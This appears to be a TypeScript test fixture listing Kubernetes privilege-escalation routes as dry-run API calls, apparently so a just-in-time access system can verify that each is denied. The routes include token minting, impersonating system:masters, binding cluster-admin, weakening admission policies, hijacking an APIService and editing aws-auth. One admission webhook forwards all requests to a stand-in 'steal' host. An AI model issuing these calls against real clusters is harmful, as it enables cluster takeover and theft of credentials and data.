import type { KubeCall } from '../../../kube/client.ts'

/** A known way from a token to full control. `admitted: false`: kube-apiserver calls no admission for it, so that only RBAC prevents it. */
export type Way = { readonly what: string; readonly call: KubeCall; readonly admitted?: false }

export const SECRETS = '/api/v1/secrets'
export const STANDBY_POD = 'jit-apiserver-standby-0'

const restricted = {
  allowPrivilegeEscalation: false,
  capabilities: { drop: ['ALL'] },
  runAsNonRoot: true,
  runAsUser: 65532,
  seccompProfile: { type: 'RuntimeDefault' },
}
/** A pod that every namespace admits. */
export const POD = {
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { name: 'way' },
  spec: { containers: [{ name: 'standby', image: 'localhost/none:1', imagePullPolicy: 'Never', securityContext: restricted }] },
} as const

/** A signing request for `CN=system:kube-controller-manager`, made once with a discarded key. */
const CSR =
  'LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlIa01JR0xBZ0VBTUNreEp6QWxCZ05WQkFNTUhuTjVjM1JsYlRwcmRXSmxMV052Ym5SeWIyeHNaWEl0YldGdQpZV2RsY2pCWk1CTUdCeXFHU000OUFnRUdDQ3FHU000OUF3RUhBMElBQkY3R3pUSUU0dFlZMlZsK2YrL2xYSGhRCnlkaTVvTW8rbmJzQS9yZHpvaUZoa1c3Z3htbnM5YXlmdkYzWVYvbXJNM0lKTG5RdFlYZ3RpNGFMWDNyVFFFZWcKQURBS0JnZ3Foa2pPUFFRREFnTklBREJGQWlFQTN2cDJ2bmZsZjF2RXltUHBRaXBrcHo5U2sxWkl4T1M3cFpYZwpSSFN2eTFBQ0lIV1pDLzk5TTF1VWwwaitrTTY4MmxueUQwNGo5RnRrbVQvallqeGY2VjltCi0tLS0tRU5EIENFUlRJRklDQVRFIFJFUVVFU1QtLS0tLQo='
const RBAC = '/apis/rbac.authorization.k8s.io/v1'
const ADMISSION = '/apis/admissionregistration.k8s.io/v1'
const rbac = { apiVersion: 'rbac.authorization.k8s.io/v1' } as const
const admission = { apiVersion: 'admissionregistration.k8s.io/v1' } as const
const dry = { dryRun: 'All' } as const
const post = (path: string, body: object): KubeCall => ({ method: 'POST', path, query: dry, body })
const merge = (path: string, body: object): KubeCall => ({ method: 'PATCH', path, query: dry, body, contentType: 'application/merge-patch+json' })
const remove = (path: string): KubeCall => ({ method: 'DELETE', path, query: dry })
const impersonating = (user: string, group?: string): KubeCall => ({
  method: 'GET',
  path: '/version',
  headers: { 'impersonate-user': user, ...(group === undefined ? {} : { 'impersonate-group': group }) },
})
const everything = { verbs: ['*'], apiGroups: ['*'], resources: ['*'] }
const admin = { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' }
const subjects = [{ kind: 'ServiceAccount', name: 'jit-webhook', namespace: 'jit-system' }]
const rule = { apiGroups: ['*'], apiVersions: ['*'], resources: ['*/*'], operations: ['*'] }
const hook = {
  name: 'steal.example.com',
  clientConfig: { url: 'https://203.0.113.7/steal' },
  rules: [rule],
  sideEffects: 'None',
  admissionReviewVersions: ['v1'],
}
const podOf = (namespace: string, serviceAccountName: string): Way => ({
  what: `runs a pod as ${serviceAccountName} in ${namespace}`,
  call: post(`/api/v1/namespaces/${namespace}/pods`, { ...POD, spec: { ...POD.spec, serviceAccountName } }),
})
const tokenOf = (namespace: string, account: string): Way => ({
  what: `makes a token of ${account} in ${namespace}`,
  call: post(`/api/v1/namespaces/${namespace}/serviceaccounts/${account}/token`, {
    apiVersion: 'authentication.k8s.io/v1',
    kind: 'TokenRequest',
    spec: {},
  }),
})
const tokenSecretOf = (namespace: string, account: string): Way => ({
  what: `makes a token Secret of ${account} in ${namespace}`,
  call: post(`/api/v1/namespaces/${namespace}/secrets`, {
    apiVersion: 'v1',
    kind: 'Secret',
    metadata: { name: 'way', annotations: { 'kubernetes.io/service-account.name': account } },
    type: 'kubernetes.io/service-account-token',
  }),
})

/** All ways; writes are dry runs. @param namespace one that belongs to the test */
export const WAYS = (namespace: string): readonly Way[] => [
  // Read a token.
  { what: 'lists every Secret', call: { method: 'GET', path: SECRETS, query: { limit: '1' } } },
  { what: 'reads the authority of our certificates', call: { method: 'GET', path: '/api/v1/namespaces/jit-system/secrets/jit-access-authority' } },
  { what: 'reads a Secret of a namespace', call: { method: 'GET', path: `/api/v1/namespaces/${namespace}/secrets/db` } },
  // Create a token.
  tokenOf('kube-system', 'generic-garbage-collector'),
  tokenOf('jit-system', 'jit-apiserver'),
  tokenOf('jit-system', 'jit-gateway'),
  tokenOf(namespace, 'default'),
  tokenSecretOf('kube-system', 'generic-garbage-collector'),
  tokenSecretOf('jit-system', 'jit-gateway'),
  tokenSecretOf(namespace, 'default'),
  {
    what: 'asks for a certificate of the controller manager',
    call: post('/apis/certificates.k8s.io/v1/certificatesigningrequests', {
      apiVersion: 'certificates.k8s.io/v1',
      kind: 'CertificateSigningRequest',
      metadata: { name: 'way' },
      spec: { request: CSR, signerName: 'kubernetes.io/kube-apiserver-client', usages: ['client auth'] },
    }),
  },
  // Run as another account.
  podOf('kube-system', 'generic-garbage-collector'),
  podOf('jit-system', 'jit-gateway'),
  podOf(namespace, 'default'),
  {
    what: 'runs a Job in kube-system',
    call: post('/apis/batch/v1/namespaces/kube-system/jobs', {
      apiVersion: 'batch/v1',
      kind: 'Job',
      metadata: { name: 'way' },
      spec: { template: { spec: { ...POD.spec, restartPolicy: 'Never' } } },
    }),
  },
  { what: 'lists what a kubelet runs', call: { method: 'GET', path: '/api/v1/nodes/node-1/proxy/pods' } },
  { what: 'changes a node', call: merge('/api/v1/nodes/node-1', { metadata: { labels: { a: 'b' } } }) },
  // Impersonate.
  { what: 'acts as system:masters', call: impersonating('x', 'system:masters') },
  { what: 'acts as the controller manager', call: impersonating('system:kube-controller-manager') },
  { what: 'acts as a controller', call: impersonating('system:serviceaccount:kube-system:generic-garbage-collector') },
  { what: 'acts as a node', call: impersonating('system:node:node-1', 'system:nodes') },
  { what: 'acts as a human', call: impersonating('oidc:approver') },
  // Get permissions: bind and escalate.
  {
    what: 'binds cluster-admin',
    call: post(`${RBAC}/clusterrolebindings`, { ...rbac, kind: 'ClusterRoleBinding', metadata: { name: 'way' }, roleRef: admin, subjects }),
  },
  {
    what: 'binds cluster-admin in kube-system',
    call: post(`${RBAC}/namespaces/kube-system/rolebindings`, { ...rbac, kind: 'RoleBinding', metadata: { name: 'way' }, roleRef: admin, subjects }),
  },
  {
    what: 'makes a role for everything',
    call: post(`${RBAC}/clusterroles`, { ...rbac, kind: 'ClusterRole', metadata: { name: 'way' }, rules: [everything] }),
  },
  { what: 'adds to a role of ours', call: merge(`${RBAC}/clusterroles/jit-webhook`, { rules: [everything] }) },
  { what: 'adds to the role view', call: merge(`${RBAC}/clusterroles/view`, { metadata: { labels: { a: 'b' } } }) },
  // See or change what others write.
  {
    what: 'makes a mutating webhook',
    call: post(`${ADMISSION}/mutatingwebhookconfigurations`, {
      ...admission,
      kind: 'MutatingWebhookConfiguration',
      metadata: { name: 'way' },
      webhooks: [hook],
    }),
  },
  {
    what: 'makes a validating webhook',
    call: post(`${ADMISSION}/validatingwebhookconfigurations`, {
      ...admission,
      kind: 'ValidatingWebhookConfiguration',
      metadata: { name: 'way' },
      webhooks: [hook],
    }),
  },
  { what: 'deletes our webhook', call: remove(`${ADMISSION}/validatingwebhookconfigurations/jit-access`) },
  { what: 'deletes what can never be granted', call: remove(`${ADMISSION}/validatingadmissionpolicies/jit-access-never`), admitted: false },
  {
    what: 'empties what can never be granted',
    call: merge(`${ADMISSION}/validatingadmissionpolicies/jit-access-never`, { spec: { validations: [{ expression: 'true' }] } }),
    admitted: false,
  },
  {
    what: 'unbinds what can never be granted',
    call: merge(`${ADMISSION}/validatingadmissionpolicybindings/jit-access-never`, { spec: { validationActions: ['Warn'] } }),
    admitted: false,
  },
  { what: 'unbinds the guard of our parts', call: remove(`${ADMISSION}/validatingadmissionpolicybindings/jit-access-parts`), admitted: false },
  {
    what: 'serves our API itself',
    call: merge('/apis/apiregistration.k8s.io/v1/apiservices/v1.jit.access', { spec: { service: { name: 'evil', namespace: 'default' } } }),
  },
  {
    what: 'believes any certificate of our API',
    call: merge('/apis/apiregistration.k8s.io/v1/apiservices/v1.jit.access', { spec: { caBundle: null, insecureSkipTLSVerify: true } }),
  },
  {
    what: 'serves a group of its own',
    call: post('/apis/apiregistration.k8s.io/v1/apiservices', {
      apiVersion: 'apiregistration.k8s.io/v1',
      kind: 'APIService',
      metadata: { name: 'v1.way.example.com' },
      spec: {
        group: 'way.example.com',
        version: 'v1',
        groupPriorityMinimum: 1,
        versionPriority: 1,
        insecureSkipTLSVerify: true,
        service: { name: 'evil', namespace: 'default' },
      },
    }),
  },
  {
    what: 'says whom aggregated API servers believe',
    call: merge('/api/v1/namespaces/kube-system/configmaps/extension-apiserver-authentication', { metadata: { annotations: { a: 'b' } } }),
  },
  {
    what: 'makes users of the cloud members of system:masters',
    call: post('/api/v1/namespaces/kube-system/configmaps', {
      apiVersion: 'v1',
      kind: 'ConfigMap',
      metadata: { name: 'aws-auth' },
      data: { mapUsers: '[{userarn: "arn:aws:iam::111122223333:user/evil", username: evil, groups: [system:masters]}]' },
    }),
  },
  // Decide for itself what agents may do.
  {
    what: 'makes a policy',
    call: post('/apis/jit.access/v1/accesspolicies', {
      apiVersion: 'jit.access/v1',
      kind: 'AccessPolicy',
      metadata: { name: 'way' },
      spec: { subjects: [{ kind: 'User', name: 'oidc:nobody' }] },
    }),
    admitted: false,
  },
]
